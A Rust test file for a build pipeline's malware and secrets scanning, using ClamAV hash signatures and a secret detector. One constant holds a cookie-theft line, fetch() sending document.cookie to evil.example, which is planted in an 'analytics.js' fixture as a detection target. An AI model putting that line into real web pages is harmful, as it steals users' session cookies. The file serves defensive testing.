//! The source scan: ClamAV with a signature database the test writes (the hash of one of the
//! project's files), the built-in secrets scan, and both in a pipeline (a match stops the
//! build in the source step; secrets are warnings).

use std::path::{Path, PathBuf};

use nativiweb_core::events::event_channel;
use nativiweb_core::memory::{MemorySink, MemorySource, WebZipBuilder};
use nativiweb_core::sandbox::scan::{
    scan, ClamAvScanner, ScanError, SecretScanner, Severity, SourceScanner,
};
use nativiweb_core::sandbox::{SandboxMode, SandboxPolicy};
use nativiweb_core::testing;
use nativiweb_core::{BuildContext, BuildStatus, CancellationToken, Pipeline, Platform, Step};

const EVIL: &str = "/* nativiweb test payload: not malware, matched by its hash */\nfetch('https://evil.example/steal?c=' + document.cookie)\n";
const SIGNATURE: &str = "Nativiweb.Test.Payload";

/// `root/db/test.hdb`: ClamAV's hash signature (`md5:size:name`) of [`EVIL`].
fn signature_db(root: &Path) -> Option<PathBuf> {
    let md5sum = testing::tool("md5sum")?;
    let file = root.join("payload.tmp");
    std::fs::write(&file, EVIL).unwrap();
    let out = std::process::Command::new(md5sum)
        .arg(&file)
        .output()
        .unwrap();
    std::fs::remove_file(&file).unwrap();
    let md5 = String::from_utf8(out.stdout).unwrap();
    let md5 = md5.split_whitespace().next().unwrap().to_owned();
    let db = root.join("db");
    std::fs::create_dir_all(&db).unwrap();
    let path = db.join("test.hdb");
    std::fs::write(&path, format!("{md5}:{}:{SIGNATURE}\n", EVIL.len())).unwrap();
    Some(path)
}

fn project(root: &Path, evil: bool) -> PathBuf {
    let dir = root.join("work/project");
    std::fs::create_dir_all(dir.join("src")).unwrap();
    std::fs::write(dir.join("index.html"), "<h1>hi</h1>").unwrap();
    std::fs::write(dir.join("src/app.js"), "console.log('hi')\n").unwrap();
    if evil {
        std::fs::write(dir.join("src/analytics.js"), EVIL).unwrap();
    }
    dir
}

#[tokio::test]
async fn clamav_finds_the_signed_file_and_only_it() {
    if testing::tool("clamscan").is_none() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let Some(db) = signature_db(root.path()) else {
        return;
    };
    let dir = project(root.path(), true);
    let ctx = BuildContext::new(root.path().join("work"), Platform::Android);
    let scanner = ClamAvScanner::new().database(&db);
    let found = scanner.scan(&ctx, &dir).await.unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].path, dir.join("src/analytics.js"));
    assert!(found[0].what.contains(SIGNATURE), "{found:?}");
    assert_eq!(found[0].severity, Severity::Block);

    // A clean project: nothing.
    std::fs::remove_file(dir.join("src/analytics.js")).unwrap();
    assert_eq!(scanner.scan(&ctx, &dir).await.unwrap(), Vec::new());

    // A database that is not one: an error naming the folder, not a clean result.
    let bad = root.path().join("db/bad.hdb");
    std::fs::write(&bad, "not a signature\n").unwrap();
    let err = ClamAvScanner::new()
        .database(&bad)
        .scan(&ctx, &dir)
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains(&dir.display().to_string()),
        "{err}"
    );
}

#[tokio::test]
async fn clamav_runs_in_the_sandbox() {
    if testing::tool("clamscan").is_none() || testing::tool("bwrap").is_none() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let Some(db) = signature_db(root.path()) else {
        return;
    };
    let dir = project(root.path(), true);
    let policy = SandboxPolicy::new(SandboxMode::Required).read_only(db.parent().unwrap());
    let ctx = BuildContext::new(root.path().join("work"), Platform::Android).with_sandbox(policy);
    let found = ClamAvScanner::new()
        .database(&db)
        .scan(&ctx, &dir)
        .await
        .unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].path.ends_with("src/analytics.js"), "{found:?}");
}

#[tokio::test]
async fn secrets_are_warned_or_block() {
    let root = tempfile::tempdir().unwrap();
    let dir = project(root.path(), false);
    std::fs::write(dir.join("release.jks"), b"\xfe\xed\xfe\xed").unwrap();
    std::fs::write(
        dir.join("src/creds.txt"),
        "-----BEGIN PRIVATE KEY-----\nMIIE...\n-----END PRIVATE KEY-----\n",
    )
    .unwrap();
    let (tx, mut rx) = event_channel();
    let ctx = BuildContext::new(root.path().join("work"), Platform::Android).with_events(tx);

    let scanners: Vec<Box<dyn SourceScanner>> = vec![Box::new(SecretScanner::new())];
    let found = scan(&ctx, &dir, &scanners).await.unwrap();
    let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
    paths.sort();
    assert_eq!(
        paths,
        vec![dir.join("release.jks"), dir.join("src/creds.txt")]
    );
    assert_eq!(ctx.warnings().len(), 2, "{:?}", ctx.warnings());
    assert!(ctx.warnings().iter().any(|w| w.contains("creds.txt")));
    while rx.try_recv().is_ok() {}

    let scanners: Vec<Box<dyn SourceScanner>> = vec![Box::new(SecretScanner::new().blocking())];
    match scan(&ctx, &dir, &scanners).await.unwrap_err() {
        ScanError::Blocked { findings } => assert_eq!(findings.len(), 2),
        other => panic!("{other}"),
    }
}

#[tokio::test]
async fn a_match_stops_the_pipeline_in_the_source_step() {
    if testing::tool("clamscan").is_none() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let Some(db) = signature_db(root.path()) else {
        return;
    };
    let source = || {
        MemorySource::new().file("index.html", "<h1>hi</h1>").file(
            "nativiweb.toml",
            "id = \"com.example.scan\"\nname = \"Scan\"\n",
        )
    };
    let pipeline = |src: MemorySource| {
        Pipeline::new(
            Box::new(src),
            Box::new(WebZipBuilder::new(Platform::Android)),
            Box::new(MemorySink::new()),
        )
        .skip_web_build(true)
        .work_dir_parent(root.path())
        .scanner(Box::new(ClamAvScanner::new().database(&db)))
        .scanner(Box::new(SecretScanner::new()))
    };

    let (events, _rx) = event_channel();
    let report = pipeline(source().file("js/analytics.js", EVIL))
        .run(events, CancellationToken::new())
        .await;
    assert_eq!(report.status, BuildStatus::Failed, "{report:?}");
    let error = report.error.clone().unwrap_or_default();
    assert!(error.contains(SIGNATURE), "{error}");
    assert!(error.contains("analytics.js"), "{error}");
    assert_eq!(report.steps.last().map(|s| s.step), Some(Step::Source));

    // The same project without the payload builds; a key in it is a warning.
    let (events, _rx) = event_channel();
    let report = pipeline(source().file("upload.keystore", "x"))
        .run(events, CancellationToken::new())
        .await;
    assert_eq!(report.status, BuildStatus::Success, "{:?}", report.error);
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.contains("upload.keystore")),
        "{:?}",
        report.warnings
    );
}
